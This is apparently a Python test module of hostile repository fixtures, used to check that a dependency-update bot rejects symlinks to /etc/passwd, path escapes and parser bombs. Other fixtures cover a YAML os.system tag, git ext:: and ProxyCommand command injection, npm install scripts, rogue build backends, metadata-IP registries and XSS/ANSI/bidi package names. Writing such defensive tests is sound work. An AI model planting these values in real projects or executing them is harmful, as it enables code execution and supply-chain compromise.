"""The repositories of the hostile fleet: by links, includes, bombs, registries elsewhere, programs and names."""

from __future__ import annotations

from tests.end_to_end.hostile import (
    PIN,
    Case,
    beside,
    code,
    javascript,
    npm,
    package,
    package_lock,
    pinned,
    pyproject,
    shell,
    uv_lock,
)

POETRY = '[tool.poetry]\nname = "app"\nversion = "1"\n[tool.poetry.dependencies]\npython = "^3.11"\nacme = "1.0"\n'

LINKS = (
    Case(
        "manifest linked to a system file",
        lambda g: {},
        "requirements.txt: is a symlink, which is not followed",
        lambda g: {"requirements.txt": "/etc/passwd"},
    ),
    Case(
        "manifest linked outside",
        lambda g: {},
        "requirements.txt: is a symlink, which is not followed",
        lambda g: {"requirements.txt": f"{g.outside}/requirements.txt"},
    ),
    Case(
        "package.json linked outside",
        lambda g: {},
        "package.json: is a symlink, which is not followed",
        lambda g: {"package.json": f"{g.outside}/package.json"},
    ),
    Case(
        "pyproject linked outside",
        lambda g: {},
        "pyproject.toml: is a symlink, which is not followed",
        lambda g: {"pyproject.toml": f"{g.outside}/pyproject.toml"},
    ),
    Case(
        "lock linked outside",
        lambda g: {"pyproject.toml": pyproject("acme")},
        "uv.lock: is a symlink, which is not followed",
        lambda g: {"uv.lock": f"{g.outside}/uv.lock"},
    ),
    Case(
        "npm lock linked outside",
        lambda g: {"package.json": package()},
        "package-lock.json: is a symlink, which is not followed",
        lambda g: {"package-lock.json": f"{g.outside}/x"},
    ),
    Case(
        ".npmrc linked outside",
        npm,
        r"\.npmrc: is a symlink, which is not followed",
        lambda g: {".npmrc": f"{g.outside}/npmrc"},
    ),
    Case(
        "folder linked outside",
        pinned("-r sub/requirements.txt"),
        r"includes \S*sub/requirements\.txt, which does not exist",
        lambda g: {"sub": g.outside},
    ),
    Case(
        "policy linked outside",
        beside(),
        r"\.remediation\.yml: is a symlink, which is not followed",
        lambda g: {".remediation.yml": f"{g.outside}/requirements.txt"},
    ),
)

INCLUDES = (
    Case("include above", pinned("-r ../../../outside/requirements.txt"), "which is outside the repository"),
    Case("include by absolute path", pinned("-r {outside}/requirements.txt"), "which is outside the repository"),
    Case("constraint above", pinned("-c ../outside/requirements.txt"), "which is outside the repository"),
    Case(
        "include by file URL", pinned("-r file://{outside}/requirements.txt"), "includes a URL; include a file instead"
    ),
    Case("include by URL", pinned("-r {listener}/requirements.txt"), "includes a URL; include a file instead"),
    Case("include of itself", pinned("-r requirements.txt")),
    Case("includes in a circle", pinned("-r a.txt", **{"a.txt": "-r b.txt\n", "b.txt": "-r a.txt\n"})),
    Case("editable above", pinned("-e ../outside"), "an editable requirement has no released version"),
    Case("folder above", pinned("other @ file://{outside}"), "a URL requirement has no version to look up"),
    Case(
        "uv workspace above",
        lambda g: {
            "pyproject.toml": pyproject("acme", more='[tool.uv.workspace]\nmembers = ["../../*"]\n'),
            "uv.lock": uv_lock(g),
        },
        r"Workspace member `\.\./\.\./scratch` is missing",
    ),
    Case(
        "uv source above",
        lambda g: {
            "pyproject.toml": pyproject(
                "acme", "other", more=f'[tool.uv.sources]\nother = {{ path = "{g.outside}" }}\n'
            )
        },
        "takes other from Git, a URL or a folder",
    ),
    Case("npm workspace above", lambda g: {**npm(g), "package.json": package(workspaces=["../../*", g.outside])}),
    Case(
        "npm folder above",
        lambda g: {**npm(g), "package.json": package({"left": "^1.0.0", "other": f"file:{g.outside}"})},
        "is outside the repository: unlink it",
    ),
    Case(
        "poetry path above",
        lambda g: {"pyproject.toml": f'{POETRY}other = {{ path = "{g.outside}" }}\n'},
        "other comes from a folder or a file",
    ),
)

BOMBS = (
    Case(
        "huge manifest",
        lambda g: {"requirements.txt": PIN + "# x\n" * 8_000_000},
        "32,000,010 bytes are over the limit of 16,777,216",
    ),
    Case("huge line", lambda g: {"requirements.txt": PIN + "x" * 400_000}, "its name is 400,000 characters long"),
    Case(
        "deep JSON",
        lambda g: {"requirements.txt": PIN, "package.json": "[" * 200_000},
        "values are nested over 200 deep",
    ),
    Case(
        "deep npm lock",
        lambda g: {"package.json": package(), "package-lock.json": '{"packages":' * 100_000},
        "values are nested over 200 deep",
    ),
    Case("deep TOML", lambda g: {"pyproject.toml": "x = " + "[" * 20_000}, "its values nest too deeply"),
    Case(
        "deep dotted key",
        lambda g: {"pyproject.toml": pyproject("acme", more=f"[{'.'.join('a' * 50_000)}]\n")},
        "its values nest too deeply",
    ),
    Case(
        "deep uv lock",
        lambda g: {"pyproject.toml": pyproject("acme"), "uv.lock": "x = " + "{a=" * 50_000},
        "its values nest too deeply",
    ),
    Case(
        "deep yarn lock",
        lambda g: {
            "package.json": package(),
            "yarn.lock": "# yarn lockfile v1\n" + "\n".join(" " * n + "a:" for n in range(3000)),
        },
        "is not what yarn writes",
    ),
    Case(
        "YAML that unfolds",
        lambda g: {
            "requirements.txt": PIN,
            ".remediation.yml": "a: &a [x,x]\n"
            + "".join(
                f"{chr(98 + n)}: &{chr(98 + n)} [*{chr(97 + n)},*{chr(97 + n)},*{chr(97 + n)}]\n" for n in range(20)
            ),
        },
        "anchors and aliases are not read",
    ),
    Case(
        "YAML that calls",
        lambda g: {
            "requirements.txt": PIN,
            ".remediation.yml": f"ignore: !!python/object/apply:os.system ['touch {g.marker}']\n",
        },
        "os.system is not read",
    ),
    Case(
        "long specifier",
        lambda g: {"requirements.txt": PIN + "other" + "".join(f">={n}," for n in range(20_000)) + "<9\n"},
    ),
    Case(
        "brackets",
        lambda g: {"requirements.txt": PIN + "other ; " + "(" * 20_000 + "\n"},
        "its marker is nested too deeply",
    ),
    Case(
        "version without end",
        lambda g: {"requirements.txt": PIN + "other==" + "1" * 100_000 + "\n"},
        "requirements.txt: line 2 of requirements.txt: ",
    ),
    Case(
        "spaces for a regex",
        lambda g: {"requirements.txt": PIN + "other" + " \t" * 100_000 + "!\n"},
        "it is not a valid requirement",
    ),
    Case(
        "long npm range",
        lambda g: {**npm(g), "package.json": package({"left": "^1.0.0", "other": ">=1.0.0 || " * 20_000 + "x"})},
        "'other': '>=1.0.0 ",
    ),
    Case("zeros and bytes", lambda g: {"requirements.txt": b"acme==1.0\n\x00\xff\xfe\n"}, "is not UTF-8 text"),
)

ELSEWHERE = (
    Case(
        "index elsewhere",
        pinned("--index-url {listener}/simple"),
        r"127\.0\.0\.1:\d+ is no registry in use: add it to allowed_hosts",
    ),
    Case("extra index elsewhere", pinned("--extra-index-url {listener}/simple")),
    Case("links elsewhere", pinned("--find-links {listener}/")),
    Case(
        "index in the private network",
        pinned("--index-url http://169.254.169.254/latest"),
        r"169\.254\.169\.254 is no registry in use: add it to allowed_hosts",
    ),
    Case(
        "index at a name of this machine",
        lambda g: {"requirements.txt": f"-i {g.listener.replace('127.0.0.1', 'localhost')}/simple\n{PIN}"},
        r"localhost:\d+ is no registry in use: add it to allowed_hosts",
    ),
    Case(
        "uv index elsewhere",
        lambda g: {
            "pyproject.toml": pyproject(
                "acme", more=f'[[tool.uv.index]]\nurl = "{g.listener}/simple"\ndefault = true\n'
            ),
            "uv.lock": uv_lock(g),
        },
        r"127\.0\.0\.1:\d+ is no registry in use: add it to allowed_hosts",
    ),
    Case(
        "uv lock from elsewhere",
        lambda g: {"pyproject.toml": pyproject("acme"), "uv.lock": uv_lock(g, f"{g.listener}/simple")},
    ),
    Case(
        "uv find-links elsewhere",
        lambda g: {
            "pyproject.toml": pyproject(
                "acme", more=f'[tool.uv]\nfind-links = ["{g.listener}/links", "{g.outside}"]\n'
            ),
            "uv.lock": uv_lock(g),
        },
        r"127\.0\.0\.1:\d+ is no registry in use: add it to allowed_hosts",
    ),
    Case(
        "uv.toml",
        lambda g: {
            "pyproject.toml": pyproject("acme"),
            "uv.lock": uv_lock(g),
            "uv.toml": f'index-url = "{g.listener}/simple"\n',
        },
        r"127\.0\.0\.1:\d+ is no registry in use: add it to allowed_hosts",
    ),
    Case(
        "pip.conf",
        lambda g: {
            "requirements.txt": PIN,
            "pip.conf": f"[global]\nindex-url = {g.listener}/simple\n",
            "setup.cfg": f"[easy_install]\nindex_url = {g.listener}\n",
        },
    ),
    Case(
        ".npmrc elsewhere",
        lambda g: npm(g, **{".npmrc": f"registry={g.listener}/\n"}),
        r"127\.0\.0\.1:\d+ is no registry in use: add it to allowed_hosts",
    ),
    Case(
        "scope elsewhere",
        lambda g: {
            **npm(g),
            "package.json": package({"left": "^1.0.0", "@evil/x": "^1.0.0"}),
            ".npmrc": f"@evil:registry={g.listener}/\n",
        },
        r"127\.0\.0\.1:\d+ is no registry in use: add it to allowed_hosts",
    ),
    Case(
        ".npmrc with programs",
        lambda g: npm(
            g,
            **{
                ".npmrc": f"git={g.outside}/git\nscript-shell=/bin/sh\nnode-options=--require ./evil.js\n"
                f"onload-script=./evil.js\nproxy={g.listener}\nhttps-proxy={g.listener}\ncafile={g.outside}/x\n",
                "evil.js": javascript(g),
            },
        ),
    ),
    Case(
        "npm lock from elsewhere",
        lambda g: {"package.json": package(), "package-lock.json": package_lock(f"{g.listener}/left-1.0.0.tgz")},
    ),
    Case(
        "old npm lock from elsewhere",
        lambda g: {"package.json": package(), "package-lock.json": package_lock(f"{g.listener}/left-1.0.0.tgz", 1)},
    ),
    Case(
        "npm archive elsewhere",
        lambda g: {**npm(g), "package.json": package({"left": "^1.0.0", "other": f"{g.listener}/other.tgz"})},
        r"127\.0\.0\.1:\d+ is no registry in use: add it to allowed_hosts",
    ),
    Case(
        "npm repository elsewhere",
        lambda g: {**npm(g), "package.json": package({"left": "^1.0.0", "other": f"git+{g.listener}/other.git"})},
        r"127\.0\.0\.1:\d+ is no registry in use: add it to allowed_hosts",
    ),
    Case(
        "wheel elsewhere",
        pinned("other @ {listener}/other-1.0-py3-none-any.whl"),
        "a URL requirement has no version to look up",
    ),
    Case(
        "repository that is a command",
        pinned("other @ git+ext::sh% -c% touch% {marker}"),
        "a VCS requirement has no released version",
    ),
    Case(
        "npm repository that is a command",
        lambda g: {
            **npm(g),
            "package.json": package({"left": "^1.0.0", "other": f"git+ssh://-oProxyCommand=touch%20{g.marker}/x"}),
        },
        "other' does not come from a registry",
    ),
)

PROGRAMS = (
    Case("setup.py", lambda g: {"requirements.txt": PIN, "setup.py": code(g)}),
    Case("setup.py alone", lambda g: {"setup.py": code(g)}),
    Case(
        "requirements of the folder itself",
        lambda g: {"requirements.txt": f"-e .\n{PIN}", "setup.py": code(g)},
        "an editable requirement has no released version",
    ),
    Case(
        "own build backend",
        lambda g: {
            "pyproject.toml": pyproject(
                "acme", more='[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n'
            ).replace('version = "1"', 'dynamic = ["version"]'),
            "uv.lock": uv_lock(g),
            "evil.py": code(g),
        },
    ),
    Case(
        "build backend from elsewhere",
        lambda g: {
            "pyproject.toml": pyproject(
                "acme", more=f'[build-system]\nrequires = ["evil @ {g.listener}/evil.tar.gz"]\nbuild-backend = "evil"\n'
            ),
            "uv.lock": uv_lock(g),
        },
    ),
    Case(
        "npm scripts",
        lambda g: {
            **npm(g),
            "package.json": package(
                scripts=dict.fromkeys(("preinstall", "install", "postinstall", "prepare", "dependencies"), shell(g))
            ),
        },
    ),
    Case("npm gyp", lambda g: {**npm(g), "binding.gyp": f"{{'targets': [{{'target_name': '<!(touch {g.marker})'}}]}}"}),
    Case(
        "yarnPath",
        lambda g: {
            "package.json": package(),
            "yarn.lock": "# yarn lockfile v1\n",
            ".yarnrc": "yarn-path ./evil.js\n",
            ".yarnrc.yml": "yarnPath: ./evil.js\nplugins: [./evil.js]\n",
            "evil.js": javascript(g),
        },
        r"left is not in yarn\.lock",
    ),
    Case(
        "packageManager elsewhere",
        lambda g: {
            **npm(g),
            "package.json": package(packageManager=f"yarn@{g.listener}/yarn.js"),
            "yarn.lock": "# yarn lockfile v1\n",
        },
        "stands beside a lockfile of npm",
    ),
    Case(
        "pnpm file",
        lambda g: {
            "package.json": package(),
            "pnpm-lock.yaml": "lockfileVersion: '9.0'\n",
            ".pnpmfile.cjs": javascript(g),
        },
        "pnpm-lock.yaml",
    ),
    Case(
        "modules named as ours",
        lambda g: {
            "requirements.txt": PIN,
            **dict.fromkeys(("pip_audit.py", "sitecustomize.py", "uv.py", "json.py", "usercustomize.py"), code(g)),
        },
    ),
    Case(
        "programs named as tools",
        lambda g: {
            **npm(g),
            "requirements.txt": PIN,
            **dict.fromkeys(("uv", "npm", "node", "git", "node_modules/.bin/npm"), f"#!/bin/sh\n{shell(g)}\n"),
        },
    ),
    Case(
        ".python-version",
        lambda g: {
            "pyproject.toml": pyproject("acme"),
            "uv.lock": uv_lock(g),
            ".python-version": f"{g.outside}/python\n",
        },
    ),
    Case(
        "git attributes",
        lambda g: {
            "requirements.txt": PIN,
            ".gitattributes": "* filter=evil diff=evil\n",
            ".gitmodules": f'[submodule "x"]\n\tpath = x\n\turl = ext::{shell(g)}\n',
            ".githooks/post-checkout": f"#!/bin/sh\n{shell(g)}\n",
        },
    ),
    Case(
        ".env",
        lambda g: {
            "pyproject.toml": pyproject("acme"),
            "uv.lock": uv_lock(g),
            ".env": f"UV_DEFAULT_INDEX={g.listener}/simple\n",
        },
    ),
    Case(
        "compiled header with options",
        lambda g: {
            "requirements.in": "acme\n",
            "requirements.txt": "#\n# This file is autogenerated by pip-compile with Python 3.11\n"
            "# by the following command:\n#\n"
            f"#    pip-compile --index-url={g.listener}/simple --output-file={g.marker} requirements.in\n#\n"
            "acme==1.0\n    # via -r requirements.in\n",
        },
        "is not compiled again",
    ),
    Case(
        "uv header with a command",
        lambda g: {
            "requirements.in": "acme\n",
            "requirements.txt": "# This file was autogenerated by uv via the following command:\n"
            f"#    uv pip compile requirements.in -o {g.marker} --python ./evil; touch {g.marker}\n"
            "acme==1.0\n    # via -r requirements.in\n",
            "evil": f"#!/bin/sh\n{shell(g)}\n",
        },
        "which the bot does not run",
    ),
    Case(
        "poetry plugins",
        lambda g: {
            "pyproject.toml": f'{POETRY}[tool.poetry.requires-plugins]\nevil = {{ url = "{g.listener}/evil.whl" }}\n',
            "poetry.toml": "[virtualenvs]\nin-project = true\n",
        },
    ),
)

EVIL_TEXT = "</details><script>alert(1)</script><img src=x onerror=alert(1)>"

NAMES = (
    Case(
        "HTML for a name",
        lambda g: {**npm(g), "package.json": package({"left": "^1.0.0", EVIL_TEXT: "^1.0.0"})},
        "is not the name of a package",
    ),
    Case(
        "HTML for a range",
        lambda g: {**npm(g), "package.json": package({"left": "^1.0.0", "other": EVIL_TEXT})},
        "does not come from a registry",
    ),
    Case(
        "quick action for a name",
        lambda g: {**npm(g), "package.json": package({"left": "^1.0.0", "\n/close\n/assign @root\n": "^1.0.0"})},
        "is not the name of a package",
    ),
    Case(
        "ANSI for a name",
        lambda g: {**npm(g), "package.json": package({"left": "^1.0.0", "\x1b]0;owned\x07\x1b[31mred": "^1.0.0"})},
        "is not the name of a package",
    ),
    Case(
        "bidi for a name",
        lambda g: {**npm(g), "package.json": package({"left": "^1.0.0", "a\u202egnp.exe": "^1.0.0"})},
        "is not the name of a package",
    ),
    Case(
        "option for a name",
        lambda g: {"requirements.txt": f"--output-file={g.marker}\n-x==1.0\n{PIN}"},
        "the option --output-file is not known",
    ),
    Case("HTML for a folder", lambda g: {'<img src=x onerror="alert(1)">/requirements.txt': PIN}),
    Case("quick action for a folder", lambda g: {"a\n/close\n/assign @root\n/requirements.txt": PIN}),
    Case("ANSI and bidi for a folder", lambda g: {"\x1b[31m\u202egnp/requirements.txt": PIN}),
    Case("Markdown for a folder", lambda g: {"`x` [a](javascript:alert(1)) @root #1/requirements.txt": PIN}),
    Case(
        "option for a folder",
        lambda g: {
            "--upload-pack=touch x/requirements.txt": PIN,
            "-rf/package.json": package(),
            "-rf/package-lock.json": package_lock(f"{g.npm}/left/-/left-1.0.0.tgz"),
        },
    ),
    Case(
        "comment with quick actions",
        lambda g: {"requirements.txt": "acme==1.0  # \r/close\u2028/assign @root <script>\n"},
        "a local path has no version to look up",
    ),
)

CASES = (*LINKS, *INCLUDES, *BOMBS, *ELSEWHERE, *PROGRAMS, *NAMES)
